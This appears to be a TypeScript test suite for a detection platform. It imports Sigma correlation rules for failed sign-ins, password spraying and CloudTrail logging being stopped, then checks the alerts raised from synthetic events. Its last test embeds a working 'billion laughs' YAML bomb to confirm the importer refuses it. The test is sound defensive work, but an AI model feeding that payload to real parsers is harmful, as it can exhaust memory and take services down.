    const theirs = (await imported(other, yaml, { enabled: true })).results;
    expect(theirs.map((r) => r.status)).toEqual(["REFERENCED", "REFERENCED", "CREATED", "CREATED"]);

    const signIn = (id: string, minute: number, user: string, errorCode: number) => ({
      id,
      createdDateTime: `2026-11-20T09:${String(minute).padStart(2, "0")}:00Z`,
      userPrincipalName: user,
      appDisplayName: "OfficeHome",
      ipAddress: "198.51.100.7",
      status: { errorCode },
    });
    const ingest = async (tenantId: string, records: object[]) => {
      const result = ok(
        await platform.request(
          IngestEventsDocument,
          { connector: "ENTRA_SIGNIN", records },
          await platform.token([Role.INGESTOR], tenantId),
        ),
      ).ingestEvents;
      expect(result.acceptedCount).toBe(records.length);
    };
    const megan = "megan.bowen@contoso.com";
    const alex = "alex.wilber@contoso.com";
    const diego = "diego.siciliani@contoso.com";
    const lynne = "lynne.robbins@contoso.com";
    // Megan fails then signs in; Alex signs in then fails; Diego and Lynne only fail here.
    await ingest(tenant, [
      signIn("temporal-megan-failed", 10, megan, 50126),
      signIn("temporal-megan-success", 20, megan, 0),
      signIn("temporal-alex-success", 5, alex, 0),
      signIn("temporal-alex-failed", 15, alex, 50126),
      signIn("temporal-diego-failed", 12, diego, 50126),
      signIn("temporal-lynne-failed", 25, lynne, 50126),
    ]);
    // The other tenant has the sign-ins that would complete Diego's and Lynne's, and a whole sequence of Diego's.
    await ingest(other, [
      signIn("other-diego-success", 40, diego, 0),
      signIn("other-lynne-success", 35, lynne, 0),
      signIn("other-alex-failed", 1, alex, 50126),
    ]);

    const end = new Date("2026-11-20T10:00:00Z");
    const titles = (tenantId: string, ruleId: string) =>
      inTenant(ds, tenantId, async (m) =>
        (
          (await m.query(`SELECT title FROM alerts WHERE rule_id = $1 ORDER BY title`, [ruleId])) as Array<{
            title: string;
          }>
        ).map((a) => a.title),
      );
    // In order: only Megan. Any order: Megan and Alex.
    expect(await run(tenant, ordered.ruleId!, end)).toEqual({ alerts: 1, results: 1 });
    expect(await titles(tenant, ordered.ruleId!)).toEqual([
      `Failed sign-in followed by a success — ${megan}`,
    ]);
    expect(await alertedIds(tenant, ordered.ruleId!)).toEqual([
      "temporal-megan-failed",
      "temporal-megan-success",
    ]);
    const [alert] = await inTenant(ds, tenant, (m) =>
      m.query(`SELECT entities, start_time, end_time FROM alerts WHERE rule_id = $1`, [ordered.ruleId]),
    );
    expect(alert).toEqual({
      entities: [{ type: "ACCOUNT", value: megan }],
      start_time: new Date("2026-11-20T09:10:00Z"),
      end_time: new Date("2026-11-20T09:20:00Z"),
    });
    expect(await run(tenant, unordered.ruleId!, end)).toEqual({ alerts: 2, results: 2 });
    expect(await titles(tenant, unordered.ruleId!)).toEqual([
      `Failed and successful sign-ins for one account — ${alex}`,
      `Failed and successful sign-ins for one account — ${megan}`,
    ]);
    expect(await alertedIds(tenant, unordered.ruleId!)).toEqual([
      "temporal-alex-failed",
      "temporal-alex-success",
      "temporal-megan-failed",
      "temporal-megan-success",
    ]);
    // The other tenant's rules see only its own events: Diego's success there follows no failure of its own.
    for (const r of theirs.slice(2))
      expect(await run(other, r.ruleId!, end)).toEqual({ alerts: 0, results: 0 });
    // The same window again raises nothing new.
    expect(await run(tenant, ordered.ruleId!, end)).toEqual({ alerts: 0, results: 1 });

    // Imported again by id: unchanged; with a longer timespan, a new version of the same rules.
    const again = await imported(tenant, yaml);
    expect(again.results.map((r) => [r.status, r.ruleId])).toEqual([
      ["REFERENCED", null],
      ["REFERENCED", null],
      ["UNCHANGED", ordered.ruleId],
      ["UNCHANGED", unordered.ruleId],
    ]);
    const revised = await imported(tenant, yaml.replaceAll("timespan: 1h", "timespan: 2h"));
    expect(
      revised.results.map((r) => [r.status, r.ruleId, r.rule?.version ?? null, r.rule?.queryPeriod ?? null]),
    ).toEqual([
      ["REFERENCED", null, null, null],
      ["REFERENCED", null, null, null],
      ["UPDATED", ordered.ruleId, 2, "PT2H"],
      ["UPDATED", unordered.ruleId, 2, "PT2H"],
    ]);
    expect(await ruleCount(tenant)).toBe(2);
  });

  it("imports a temporal_ordered correlation across two connectors, grouped by an alias of each source's address field, that fires for the address that did both in order", async () => {
    const tenant = "sigma-temporal-sources";
    const yaml = `${FAILED_PASSWORD}---
title: CloudTrail logging stopped
id: 1d2e3f4a-5b6c-4d7e-8f9a-0b1c2d3e4f5a
name: trail_stopped
logsource:
  product: aws
  service: cloudtrail
detection:
  selection:
    eventName:
      - StopLogging
      - DeleteTrail
  condition: selection
level: high
---
title: Failed sign-ins, then the trail stopped, from one address
id: 2e3f4a5b-6c7d-4e8f-9a0b-1c2d3e4f5a6b
correlation:
  type: temporal_ordered
  rules:
    - failed_password
    - trail_stopped
  aliases:
    ip:
      failed_password: IPAddress
      trail_stopped: sourceIPAddress
  group-by:
    - ip
  timespan: 1h
level: high
`;
    const payload = await imported(tenant, yaml, { enabled: true });
    expect(payload.results.map((r) => [r.status, r.problems])).toEqual([
      ["REFERENCED", []],
      ["REFERENCED", []],
      ["CREATED", []],
    ]);
    const correlation = payload.results[2].rule!;
    expect(correlation.definition.summarize).toMatchObject({
      by: ["src_ip"],
      aggregate: "FILTERS_MATCHED_IN_ORDER",
      filters: [
        {
          name: "failed_password",
          filter: FAILED_PASSWORD_SEARCH,
        },
        {
          name: "trail_stopped",
          filter: {
            all: [
              { field: "connector", op: "eq", value: "AWS_CLOUDTRAIL" },
              { field: "attributes.event_name", op: "in", value: ["StopLogging", "DeleteTrail"] },
            ],
          },
        },
      ],
    });
    const ingestor = await platform.token([Role.INGESTOR], tenant);
    for (const kind of ["ENTRA_SIGNIN", "AWS_CLOUDTRAIL"] as const)
      expect((await ingestFixture(platform, ingestor, kind)).status).toBe(200);

    // 203.0.113.77 sprays passwords at Entra from 09:00 to 09:05, and stops then deletes the trail at 09:34 and
    // 09:38: in the 09:30 run's window only the failures are, so nothing fires; the 10:00 run has both, in order.
    expect(await run(tenant, correlation.id, new Date("2026-11-20T09:30:00Z"))).toEqual({
      alerts: 0,
      results: 0,
    });
    expect(await run(tenant, correlation.id, new Date("2026-11-20T10:00:00Z"))).toEqual({
      alerts: 1,
      results: 1,
    });
    const [alert] = await inTenant(ds, tenant, (m) =>
      m.query(`SELECT entities FROM alerts WHERE rule_id = $1`, [correlation.id]),
    );
    expect(alert.entities).toEqual([{ type: "IP", value: "203.0.113.77" }]);
    const attacker = (ip: unknown) => ip === "203.0.113.77";
    // The evidence: its 14 failed sign-ins, then the trail stopped and deleted.
    const evidence = await alertedIds(tenant, correlation.id);
    expect(evidence).toHaveLength(16);
    expect(evidence).toEqual(
      [
        ...fixtureIds(
          "ENTRA_SIGNIN",
          (r) => attacker(get(r, "ipAddress")) && get(r, "status", "errorCode") === 50126,
        ),
        ...fixtureIds(
          "AWS_CLOUDTRAIL",
          (r) =>
            attacker(get(r, "sourceIPAddress")) &&
            /^(StopLogging|DeleteTrail)$/.test(String(get(r, "eventName"))),
        ),
      ].sort(),
    );
  });

  it("imports event_count and value_count correlations over Entra ID and Okta failures that fire on the combined count only, grouped and counted by aliases of each source's fields", async () => {
    const tenant = "sigma-count-sources";
    const base = `${FAILED_PASSWORD}---
title: Okta sign-in failure
id: 4b5c6d7e-8f9a-4b0c-9d1e-2f3a4b5c6d7e
name: okta_failed
logsource:
  product: okta
  service: okta
detection:
  selection:
    eventType: user.session.start
    outcome.result: FAILURE
  condition: selection
level: low
`;
    const aliases = `  aliases:
    user:
      failed_password: UserPrincipalName
      okta_failed: actor.alternateId
    ip:
      failed_password: IPAddress
      okta_failed: client.ipAddress
`;
    const yaml = `${base}---
title: Four failed sign-ins of one account, at Entra ID and Okta together
id: 5c6d7e8f-9a0b-4c1d-8e2f-3a4b5c6d7e90
correlation:
  type: event_count
  rules: [failed_password, okta_failed]
${aliases}  group-by: [user]
  timespan: 1h
  condition:
    gte: 4
level: high
---
title: Three accounts failing from one address, at Entra ID and Okta together
id: 6d7e8f9a-0b1c-4d2e-9f3a-4b5c6d7e8f01
correlation:
  type: value_count
  rules: [failed_password, okta_failed]
${aliases}  group-by: [ip]
  timespan: 1h
  condition:
    field: user
    gte: 3
level: high
`;
    const payload = await imported(tenant, yaml, { enabled: true });
    expect(payload.results.map((r) => [r.status, r.problems])).toEqual([
      ["REFERENCED", []],
      ["REFERENCED", []],
      ["CREATED", []],
      ["CREATED", []],
    ]);
    const [events, values] = [payload.results[2].rule!, payload.results[3].rule!];
    const user = {
      name: "user",
      cases: [
        {
          when: FAILED_PASSWORD_SEARCH,
          field: "attributes.user.email_addr",
        },
        {
          when: {
            all: [
              { field: "connector", op: "eq", value: "OKTA_SYSTEM_LOG" },
              { field: "operation", op: "eq", value: "user.session.start" },
              { field: "attributes.outcome.result", op: "eq", value: "FAILURE" },
            ],
          },
          field: "attributes.actor.alternate_id",
        },
      ],
    };
    expect(events.definition.summarize).toEqual({
      by: ["user"],
      aggregate: "COUNT",
      field: null,
      filters: null,
      aliases: [user],
    });
    expect(values.definition.summarize).toEqual({
      by: ["src_ip"],
      aggregate: "DISTINCT_COUNT",
      field: "user",
      filters: null,
      aliases: [user],
    });

    // From 198.51.100.20 between 09:00 and 09:40: Alice fails twice at Entra ID and twice at Okta, Dave twice at
    // Entra ID, Carol twice at Okta (a success of hers is no failure); Bob fails three times at Entra ID from
    // 192.0.2.50. Alone, each source has at most three failures of an account and two accounts of an address.
    const minute = (m: number) => `2026-11-20T09:${String(m).padStart(2, "0")}:00Z`;
    const entra = (id: string, m: number, user: string, ip = "198.51.100.20") => ({
      id,
      createdDateTime: minute(m),
      userPrincipalName: user,
      ipAddress: ip,
      status: { errorCode: 50126 },
    });
    const okta = (uuid: string, m: number, user: string, result = "FAILURE") => ({
      uuid,
      published: minute(m),
      eventType: "user.session.start",
      actor: { id: `00u${user.length}`, type: "User", alternateId: user },
      client: { ipAddress: "198.51.100.20" },
      outcome: { result, reason: result === "FAILURE" ? "INVALID_CREDENTIALS" : null },
    });
    const ingest = (connector: ConnectorKind, records: object[]) => ingestRecords(tenant, connector, records);
    await ingest("ENTRA_SIGNIN", [
      entra("xs-entra-alice-1", 1, "alice@contoso.com"),
      entra("xs-entra-alice-2", 12, "alice@contoso.com"),
      entra("xs-entra-dave-1", 5, "dave@contoso.com"),
      entra("xs-entra-dave-2", 25, "dave@contoso.com"),
      entra("xs-entra-bob-1", 2, "bob@contoso.com", "192.0.2.50"),
      entra("xs-entra-bob-2", 3, "bob@contoso.com", "192.0.2.50"),
      entra("xs-entra-bob-3", 4, "bob@contoso.com", "192.0.2.50"),
    ]);
    const at = new Date("2026-11-20T10:00:00Z");
    // Only the Entra ID failures so far: three at most per account, two accounts per address.
    expect(await run(tenant, events.id, at)).toEqual({ alerts: 0, results: 0 });
    expect(await run(tenant, values.id, at)).toEqual({ alerts: 0, results: 0 });

    await ingest("OKTA_SYSTEM_LOG", [
      okta("xs-okta-alice-1", 20, "alice@contoso.com"),
      okta("xs-okta-alice-2", 30, "alice@contoso.com"),
      okta("xs-okta-carol-1", 35, "carol@contoso.com"),
      okta("xs-okta-carol-2", 40, "carol@contoso.com"),
      okta("xs-okta-carol-ok", 41, "carol@contoso.com", "SUCCESS"),
    ]);
    // Together: Alice's four failures; Alice, Carol and Dave from one address (Alice counted once).
    expect(await run(tenant, events.id, at)).toEqual({ alerts: 1, results: 1 });
    expect(await run(tenant, values.id, at)).toEqual({ alerts: 1, results: 1 });
    const alertOf = async (ruleId: string) =>
      (
        await inTenant(ds, tenant, (m) =>
          m.query(`SELECT title, entities FROM alerts WHERE rule_id = $1`, [ruleId]),
        )
      )[0];
    expect(await alertOf(events.id)).toEqual({
      title: "Four failed sign-ins of one account, at Entra ID and Okta together — alice@contoso.com",
      entities: [{ type: "ACCOUNT", value: "alice@contoso.com" }],
    });
    expect(await alertOf(values.id)).toEqual({
      title: "Three accounts failing from one address, at Entra ID and Okta together — 198.51.100.20",
      entities: [{ type: "IP", value: "198.51.100.20" }],
    });
    // The evidence is each source's events of the group.
    expect(await alertedIds(tenant, events.id)).toEqual([
      "xs-entra-alice-1",
      "xs-entra-alice-2",
      "xs-okta-alice-1",
      "xs-okta-alice-2",
    ]);
    expect(await alertedIds(tenant, values.id)).toEqual([
      "xs-entra-alice-1",
      "xs-entra-alice-2",
      "xs-entra-dave-1",
      "xs-entra-dave-2",
      "xs-okta-alice-1",
      "xs-okta-alice-2",
      "xs-okta-carol-1",
      "xs-okta-carol-2",
    ]);

    // Over a sliding hour the combined count fires too, and a run over the same events raises nothing new.
    const sliding = (
      await imported(tenant, yaml.replace(/5c6d7e8f-9a0b/, "7e8f9a0b-1c2d"), {
        enabled: true,
        slidingWindow: true,
      })
    ).results[2].rule!;
    expect(sliding.definition.summarize).toMatchObject({ by: ["user"], aggregate: "COUNT", aliases: [user] });
    expect(await run(tenant, sliding.id, at)).toEqual({ alerts: 1, results: 1 });
    expect(await run(tenant, sliding.id, new Date("2026-11-20T10:05:00Z"))).toEqual({
      alerts: 0,
      results: 1,
    });
  });

  it("counts a correlation over fixed windows: a burst split by a window boundary is missed, and runs more often than the timespan catch it", async () => {
    const tenant = "sigma-correlation-windows";
    const yaml = (id: string) => `title: Failed password sign-in
id: ${id}-0000-4000-8000-000000000001
name: failed
logsource:
  product: azure
  service: signinlogs
detection:
  selection:
    ResultType: 50126
  condition: selection
---
title: Three failed sign-ins within the hour
id: ${id}-0000-4000-8000-000000000002
correlation:
  type: event_count
  rules: [failed]
  group-by: [UserPrincipalName]
  timespan: 1h
  condition:
    gte: 3
`;
    const fixed = (await imported(tenant, yaml("0a0a0a0a"), { enabled: true })).results[1];
    const overlapping = (await imported(tenant, yaml("0b0b0b0b"), { enabled: true, queryFrequency: "PT10M" }))
      .results[1];
    expect([fixed.rule!.queryFrequency, fixed.rule!.queryPeriod]).toEqual(["PT1H", "PT1H"]);
    expect([overlapping.rule!.queryFrequency, overlapping.rule!.queryPeriod]).toEqual(["PT10M", "PT1H"]);
    // Three failures ten minutes apart, across 10:00.
    const records = ["09:55", "10:00", "10:05"].map((time, n) => ({
      id: `sigma-window-${n}`,
      createdDateTime: `2026-11-20T${time}:00Z`,
      userPrincipalName: "megan.bowen@contoso.com",
      ipAddress: "198.51.100.1",
      status: { errorCode: 50126 },
    }));
    const ingested = ok(
      await platform.request(
        IngestEventsDocument,
        { connector: "ENTRA_SIGNIN", records },
        await platform.token([Role.INGESTOR], tenant),
      ),
    ).ingestEvents;
    expect(ingested.acceptedCount).toBe(3);
    const at = (time: string) => new Date(`2026-11-20T${time}:00Z`);
    // Hourly windows: one failure before 10:00, two after; neither window has three.
    expect(await run(tenant, fixed.ruleId!, at("10:00"))).toEqual({ alerts: 0, results: 0 });
    expect(await run(tenant, fixed.ruleId!, at("11:00"))).toEqual({ alerts: 0, results: 0 });
    // Every ten minutes over the last hour: the 10:10 run's window holds all three.
    expect(await run(tenant, overlapping.ruleId!, at("10:00"))).toEqual({ alerts: 0, results: 0 });
    expect(await run(tenant, overlapping.ruleId!, at("10:10"))).toEqual({ alerts: 1, results: 1 });
    expect(await run(tenant, overlapping.ruleId!, at("10:20"))).toEqual({ alerts: 0, results: 1 });
    expect(await alertedIds(tenant, overlapping.ruleId!)).toEqual([
      "sigma-window-0",
      "sigma-window-1",
      "sigma-window-2",
    ]);
  });

  it("imports each rule of a rule collection (action: global, repeat, reset) on its own", async () => {
    const tenant = "sigma-collection";
    const yaml = `action: global
title: CloudTrail trail change
logsource:
  product: aws
  service: cloudtrail
detection:
  selection:
    eventSource: cloudtrail.amazonaws.com
  condition: selection and change
level: medium
---
id: 6f405172-8d9e-4fa0-b1c2-3d4e5f607182
detection:
  change:
    eventName: StopLogging
---
action: repeat
id: 70516283-9eaf-40b1-82d3-4e5f60718293
title: CloudTrail trail deleted
detection:
  change:
    eventName: DeleteTrail
---
action: reset
---
action: repeat
id: 81627394-afb0-41c2-93e4-5f6071829304
level: high
`;
    const payload = await imported(tenant, yaml, { enabled: true, queryFrequency: "P1D" });
    expect(
      payload.results.map((r) => [r.document, r.sigmaId, r.status, r.title, r.rule?.severity ?? null]),
    ).toEqual([
      [2, "6f405172-8d9e-4fa0-b1c2-3d4e5f607182", "CREATED", "CloudTrail trail change", "MEDIUM"],
      [3, "70516283-9eaf-40b1-82d3-4e5f60718293", "CREATED", "CloudTrail trail deleted", "MEDIUM"],
      // A reset forgets the global parts, not the rule before it: a repeat after it is that rule again.
      [5, "81627394-afb0-41c2-93e4-5f6071829304", "CREATED", "CloudTrail trail deleted", "HIGH"],
    ]);
    expect(payload.results[1].rule!.definition.filter).toEqual({
      all: [
        { field: "connector", op: "eq", value: "AWS_CLOUDTRAIL" },
        { field: "attributes.event_source", op: "eq", value: "cloudtrail.amazonaws.com" },
        { field: "attributes.event_name", op: "eq", value: "DeleteTrail" },
      ],
    });
    // Each stored rule keeps its whole YAML, which imports again as the same rule.
    const stored = payload.results[1].rule!.sigma!.yaml;
    expect(stored).toContain("title: CloudTrail trail deleted");
    expect(
      (await imported(tenant, stored, { queryFrequency: "P1D" })).results.map((r) => [r.status, r.ruleId]),
    ).toEqual([["UNCHANGED", payload.results[1].ruleId]]);
    await ingestAll(tenant);
    const expected = fixtureIds("AWS_CLOUDTRAIL", (r) => {
      const rec = r as { eventSource?: string; eventName?: string };
      return rec.eventSource === "cloudtrail.amazonaws.com" && rec.eventName === "DeleteTrail";
    });
    expect(expected.length).toBeGreaterThan(0);
    const ruleId = payload.results[1].ruleId!;
    await run(tenant, ruleId, new Date("2026-11-21T00:00:00Z"));
    expect(await alertedIds(tenant, ruleId)).toEqual(expected);
  });

  it("re-imports by Sigma id: the same rule is unchanged, a changed one gets a new version, the enabled state is kept; each tenant has its own", async () => {
    const tenant = "sigma-reimport";
    const [trail, vault] = [SIGMA_SEMANTICS[0].yaml, SIGMA_SEMANTICS[3].yaml];
    const first = await imported(tenant, `${trail}---\n${vault}`, { enabled: true });
    expect(first.results.map((r) => [r.status, r.rule!.version, r.rule!.enabled])).toEqual([
      ["CREATED", 1, true],
      ["CREATED", 1, true],
    ]);
    const ids = first.results.map((r) => r.ruleId);

    // The same YAML again (options left out): nothing changes, the admin's enabled state stays.
    const again = await imported(tenant, `${trail}---\n${vault}`);
    expect(again.results.map((r) => [r.status, r.ruleId, r.rule!.version, r.rule!.enabled])).toEqual([
      ["UNCHANGED", ids[0], 1, true],
      ["UNCHANGED", ids[1], 1, true],
    ]);

    // A new revision of one rule updates that rule (no second rule), the other is unchanged.
    const revised = trail.replace("level: medium", "level: critical");
    const third = await imported(tenant, `${revised}---\n${vault}`);
    expect(
      third.results.map((r) => [r.status, r.ruleId, r.rule!.version, r.rule!.severity, r.rule!.enabled]),
    ).toEqual([
      ["UPDATED", ids[0], 2, "HIGH", true],
      ["UNCHANGED", ids[1], 1, "MEDIUM", true],
    ]);
    expect(third.results[0].rule!.sigma!.yaml).toBe(revised.trim());
    expect(third.results[0].notes).toEqual([
      "Sigma level critical is severity HIGH (the highest a rule has).",
    ]);

    // Disabling through the options is a change too.
    const fourth = await imported(tenant, `${revised}---\n${vault}`, { enabled: false });
    expect(fourth.results.map((r) => [r.status, r.rule!.version, r.rule!.enabled])).toEqual([
      ["UPDATED", 3, false],
      ["UPDATED", 2, false],
    ]);
    expect([fourth.updatedCount, fourth.createdCount]).toEqual([2, 0]);
    expect(await ruleCount(tenant)).toBe(2);

    // Another tenant importing the same rule gets its own, and this tenant's stays as it is.
    const other = await imported("sigma-reimport-other", trail);
    expect(other.results[0].status).toBe("CREATED");
    expect(other.results[0].ruleId).not.toBe(ids[0]);
    const mine = ok(
      await platform.request(SigmaRuleDocument, { id: ids[0]! }, await platform.token([Role.READER], tenant)),
    ).analyticsRule;
    expect(mine).toMatchObject({ version: 3, enabled: false, sigma: { yaml: revised.trim() } });
    const theirs = ok(
      await platform.request(
        SigmaRuleDocument,
        { id: ids[0]! },
        await platform.token([Role.READER], "sigma-reimport-other"),
      ),
    ).analyticsRule;
    expect(theirs).toBeNull();
  });

  it("refuses oversized YAML, YAML without rules and bad options with BAD_USER_INPUT, and stores nothing", async () => {
    const tenant = "sigma-bad-input";
    const codes = (res: Awaited<ReturnType<typeof importSigma>>) =>
      (res.errors ?? []).map((e) => [e.extensions?.code, e.extensions?.problems]);
    const big = `${SIGMA_SEMANTICS[0].yaml}description: "${"x".repeat(300 * 1024)}"\n`;
    expect(codes(await importSigma(tenant, big))).toEqual([
      [
        "BAD_USER_INPUT",
        [
          {
            field: "yaml",
            message: expect.stringMatching(/^The YAML is \d+ bytes; at most 262144 are accepted/),
          },
        ],
      ],
    ]);
    expect(codes(await importSigma(tenant, "# nothing here\n"))).toEqual([
      ["BAD_USER_INPUT", [{ field: "yaml", message: "The YAML holds no Sigma rule." }]],
    ]);
    expect(
      codes(
        await importSigma(tenant, SIGMA_SEMANTICS[0].yaml, { queryFrequency: "5m", queryPeriod: "PT1H" }),
      ),
    ).toEqual([
      ["BAD_USER_INPUT", [{ field: "options.queryFrequency", message: expect.stringContaining("ISO 8601") }]],
    ]);
    expect(
      codes(await importSigma(tenant, SIGMA_SEMANTICS[0].yaml, { kind: "NRT", queryPeriod: "PT1H" })),
    ).toEqual([
      [
        "BAD_USER_INPUT",
        [{ field: "options.queryPeriod", message: "NRT rules have no schedule (leave it out)" }],
      ],
    ]);
    expect(
      codes(
        await importSigma(tenant, SIGMA_SEMANTICS[0].yaml, { queryFrequency: "PT1H", queryPeriod: "PT10M" }),
      ),
    ).toEqual([
      [
        "BAD_USER_INPUT",
        [
          {
            field: "options.queryPeriod",
            message: "must be at least queryFrequency, or events between runs are never seen",
          },
        ],
      ],
    ]);
    // A YAML bomb is one rejected document, refused without expanding it.
    const bomb = `title: lol\nid: 0d5a8e1f-0000-4000-8000-0000000000ff\na: &a ["lol","lol","lol","lol","lol","lol","lol","lol"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f]\n`;
    const payload = await imported(tenant, bomb);
    expect(payload.results.map((r: Result) => [r.status, r.problems.map((p) => p.message)])).toEqual([
      ["REJECTED", ["YAML aliases (*name) are not supported: write the value out"]],
    ]);
    expect(await ruleCount(tenant)).toBe(0);
  });
});
